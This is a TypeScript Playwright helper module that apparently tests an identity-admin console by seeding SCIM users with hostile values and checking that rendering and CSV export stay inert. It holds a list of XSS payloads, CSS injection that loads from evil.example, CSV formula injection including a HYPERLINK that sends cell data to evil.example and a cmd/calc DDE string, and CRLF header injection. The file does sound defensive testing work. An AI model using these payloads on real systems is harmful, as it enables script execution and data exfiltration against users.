// Hostile values, and the checks every view of them shares. A view's spec seeds identities
// whose every attribute is one payload (`seedCorpus`), watches the page (`watchForExecution`),
// and asserts each value shows as text, exactly (`textOf`), in exports too (`expectCsvSafe`).
// A new view (the drift review, say) needs only its own spec on top of this module.
import { APIRequestContext, Download, Page } from '@playwright/test';
import { readFileSync } from 'fs';
import { expect } from './fixtures';
import { USERS } from './helpers';

export type Payload = { kind: string; value: string };

/** Each payload sets `window.__xss` (or loads from evil.example) if it ever runs. */
export const PAYLOADS: Payload[] = [
  { kind: 'script tag', value: '<script>window.__xss="script"</script>' },
  { kind: 'img onerror', value: `<img src=x onerror="window.__xss='img'">` },
  { kind: 'svg onload', value: '<svg/onload=window.__xss="svg"><circle r=9></svg>' },
  { kind: 'iframe srcdoc', value: `"><iframe srcdoc="<script>parent.__xss='iframe'</script>"></iframe>` },
  { kind: 'javascript: URL', value: 'javascript:window.__xss="js-url"//' },
  { kind: 'anchor with a javascript: href', value: `<a href="javascript:window.__xss='a'">open</a>` },
  { kind: 'attribute breakout, double quotes', value: `" autofocus onfocus="window.__xss='attr2'" x="` },
  { kind: 'attribute breakout, single quotes', value: `' onmouseover='window.__xss="attr1"' x='` },
  { kind: 'template literal and template syntax', value: "${window.__xss='tpl'}`{{constructor.constructor('window.__xss=1')()}}#{7*7}" },
  { kind: 'CSS injection', value: '</style><style>*{background:url(//evil.example/css)}</style><div style="background:url(javascript:window.__xss=1)">' },
  { kind: 'mutation XSS (math, style)', value: '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss="mxss">' },
  { kind: 'HTML entities stay literal', value: '&lt;b&gt;bold&lt;/b&gt; &amp;amp; &#60;i&#62; &quot;' },
  { kind: 'comment and CDATA breakers', value: '--><!-- ]]><![CDATA[ x ]]> <!--' },
  { kind: 'bidi override U+202E', value: 'invoice\u202Efdp.exe' },
  { kind: 'bidi isolates U+2066..U+2069', value: 'admin\u2066\u202Eresu\u2069\u2069@acme-corp.example' },
  { kind: 'zero-width characters', value: 'ad\u200Bmin\u200C@\u200Dacme\uFEFF-corp\u2060.example' },
  { kind: 'NUL and control characters', value: 'nul\u0000byte\u0001\u0007bell\u001b[31mred\u001b[0m\u007f\u0085\u008f' },
  { kind: 'CR/LF and a header', value: 'line one\r\nSet-Cookie: a=b\r\n\r\n<b>line three</b>' },
  { kind: 'leading and trailing spaces', value: '  padded name  ' },
  { kind: 'a very long unbroken word (5,000 characters)', value: `${'W'.repeat(4990)}<b>end</b>` },
  { kind: 'RTL text', value: 'مدير النظام שלום עולם' },
  { kind: 'emoji with ZWJ sequences', value: '👩‍👩‍👧‍👦 👨🏽‍💻 🏳️‍🌈 🧑‍🤝‍🧑' },
  { kind: 'look-alike domain (Cyrillic а)', value: 'admin@аcme-corp.example' },
  { kind: 'look-alike URL', value: 'https://github.com.evil.example/orgs/acme-corp/sso' },
  { kind: 'punycode domain', value: 'admin@xn--80ak6aa92e.example' },
  { kind: 'spreadsheet formula', value: '=HYPERLINK("https://evil.example/?"&A1,"Click")' },
  { kind: 'formulas after separators', value: `x;=2+5,+cmd|' /C calc'!A0\t-1|@SUM(1)` },
  { kind: 'JSON and JS breakers', value: '"}],"admin":true,"x":[{"\\u2028\u2028\u2029</script>' },
  { kind: 'prototype key', value: '__proto__' },
  { kind: 'combining marks (Zalgo)', value: 'Z̸̡̢͇̀ą̷̛l̴̢̛g̶̨o̵̢' },
  { kind: 'percent escapes', value: '%3Cscript%3Ewindow.__xss=1%3C/script%3E %00 %2e%2e/' },
  { kind: 'markdown link and image', value: '[click](javascript:window.__xss=1) ![x](https://evil.example/t.png)' },
];

/** One mebibyte of markup: more than GitHub (or the emulator, 64 KiB) takes in a body. */
export const HUGE = '<img src=x onerror=window.__xss="huge">'.repeat(27_000).slice(0, 1 << 20);

/**
 * Values the API refuses as every attribute, and how (the console must cope anyway). A body over
 * 64 KiB is refused whole (413), so a megabyte never reaches an identity: it goes through the
 * console's own fields instead. (72 KB rather than a megabyte here: the emulator answers 413 as
 * soon as it has read 64 KiB, and a client still writing a megabyte would see its pipe break.)
 */
export const REFUSED: { kind: string; value: string; status: number }[] = [
  { kind: 'whitespace only', value: ' \t\r\n ', status: 400 },
  { kind: 'a lone surrogate (not Unicode)', value: 'x\uD800y', status: 400 },
  { kind: 'a body over 64 KiB (8,000 characters in each of 9 attributes)', value: 'x'.repeat(8_000), status: 413 },
];

/** What a text field holds when `value` is pasted or typed into it: a line break becomes a space. */
export const pasted = (value: string) => value.replace(/\r\n|[\r\n]/g, ' ');

/** What a text field holds when the page sets it to `value`: the browser drops line breaks. */
export const inInput = (value: string) => value.replace(/[\r\n]/g, '');

/** A textarea's value for `value`: line breaks become `\n`. */
export const inTextarea = (value: string) => value.replace(/\r\n?/g, '\n');

const auth = { Authorization: 'Bearer e2e-token', 'Content-Type': 'application/scim+json' };

/** A SCIM user whose every attribute the API lets a client set is `value`. */
export function hostileUser(value: string) {
  return {
    schemas: ['urn:ietf:params:scim:schemas:core:2.0:User'],
    userName: value,
    externalId: value,
    displayName: value,
    name: { givenName: value, familyName: value },
    emails: [{ value, type: value, primary: true }],
    groups: [{ value, display: value }],
  };
}

export type Seeded = Payload & { id: string; body: string };

/** Creates one identity per payload through the API; each must be taken as sent. */
export async function seedCorpus(request: APIRequestContext): Promise<Seeded[]> {
  const seeded: Seeded[] = [];
  for (const payload of PAYLOADS) {
    const answer = await request.post(USERS, { headers: auth, data: JSON.stringify(hostileUser(payload.value)) });
    expect(answer.status(), `${payload.kind}: ${await answer.text()}`).toBe(201);
    const user = await answer.json();
    expect(user.userName, payload.kind).toBe(payload.value);
    seeded.push({ ...payload, id: user.id, body: await answer.text() });
  }
  return seeded;
}

/** POSTs `value` as every attribute and returns the status. */
export async function post(request: APIRequestContext, value: string) {
  return (await request.post(USERS, { headers: auth, data: JSON.stringify(hostileUser(value)) })).status();
}

/**
 * Records anything a payload could do if it ran: the canary, a dialog, a popup, a request or a
 * navigation leaving the console's origin. Call the result to assert none happened.
 */
export function watchForExecution(page: Page, origin: string) {
  const happened: string[] = [];
  const foreign = (url: string) => !url.startsWith(origin) && !/^(blob|data|about):/.test(url);
  page.on('dialog', d => { happened.push(`dialog ${d.type()}: ${d.message()}`); void d.dismiss(); });
  page.on('popup', p => happened.push(`popup ${p.url()}`));
  page.on('request', r => { if (foreign(r.url())) happened.push(`request ${r.url()}`); });
  page.on('framenavigated', f => { if (foreign(f.url())) happened.push(`navigation ${f.url()}`); });
  return async () => {
    expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
    expect(happened).toEqual([]);
  };
}

/** The element's text exactly as the DOM holds it (no whitespace folding). */
export function textOf(page: Page, selector: string) {
  return page.locator(selector).evaluate(e => e.textContent);
}

export function readDownload(download: Download): Promise<string> {
  return download.path().then(path => readFileSync(path, 'utf8'));
}

/** RFC 4180 cells of a CSV text, each with whether it was quoted. */
export function parseCsv(text: string): { value: string; quoted: boolean }[][] {
  const rows: { value: string; quoted: boolean }[][] = [];
  let row: { value: string; quoted: boolean }[] = [];
  let at = 0;
  while (at < text.length) {
    let value = '';
    const quoted = text[at] === '"';
    if (quoted) {
      at++;
      for (;;) {
        const next = text.indexOf('"', at);
        if (next < 0) throw new Error('unterminated quoted cell');
        value += text.slice(at, next);
        at = next + 1;
        if (text[at] !== '"') break;
        value += '"';
        at++;
      }
    } else {
      while (at < text.length && !',\r\n'.includes(text[at])) value += text[at++];
    }
    row.push({ value, quoted });
    if (text[at] === ',') { at++; continue; }
    if (text.startsWith('\r\n', at)) at += 2;
    else if (at < text.length) throw new Error(`stray character after a cell at ${at}`);
    rows.push(row);
    row = [];
  }
  return rows;
}

const RISKY = '=+-@\t\r';
const BOUNDARY = ',;\t|"\r\n';

/**
 * Every cell quoted, and no field a spreadsheet could start (the cell's start, or after a
 * separator of any locale, a quote or a line break, spaces skipped) starting with a formula
 * character unless a `'` comes first. Returns the cells.
 */
export function expectCsvSafe(text: string) {
  const rows = parseCsv(text);
  for (const [r, row] of rows.entries()) {
    for (const [c, cell] of row.entries()) {
      expect(cell.quoted, `row ${r} cell ${c} is quoted`).toBe(true);
      const v = cell.value;
      const starts = [0];
      for (let i = 0; i < v.length; i++) if (BOUNDARY.includes(v[i])) starts.push(i + 1);
      for (const start of starts) {
        if (v[start] === "'") continue;
        let i = start;
        while (v[i] === ' ') i++;
        const risky = i < v.length && RISKY.includes(v[i]);
        expect(risky, `row ${r} cell ${c}, a field starts with ${JSON.stringify(v[i])}: ${JSON.stringify(v.slice(0, 80))}`).toBe(false);
      }
    }
  }
  return rows.map(row => row.map(cell => cell.value));
}

/** A CSV cell read back: the `'` the writer may have put in front of risky characters dropped. */
export const unneutralised = (cell: string) => cell.replace(/'/g, '');
